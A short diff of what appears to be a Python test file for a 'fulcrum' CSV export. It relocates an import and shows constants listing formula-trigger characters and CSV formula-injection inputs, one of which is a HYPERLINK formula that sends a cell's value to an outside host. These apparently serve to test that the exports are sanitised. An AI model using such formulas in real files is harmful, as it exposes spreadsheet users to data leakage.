@@ -12,10 +12,10 @@ import fulcrum
 from fulcrum.cli.app import run
 from fulcrum.csv_text import csv_text, plain_cell
 from fulcrum.errors import FederationError
+from fulcrum.federation.as_csv import federation_csv
 from fulcrum.federation.reading import federation_from_bytes, read_federation
 from fulcrum.federation.structure import Federation
 from fulcrum.planning.exporting import exported
-from fulcrum.views.page_answers import federation_csv
 
 SIGNS = "=+-@\t\r\n＝＋－＠"
 EVIL = ['=HYPERLINK("http://example.org?"&A1)', "+1", "-2+3", "@SUM(A1)", "'=x", "''+y", "＝1"]
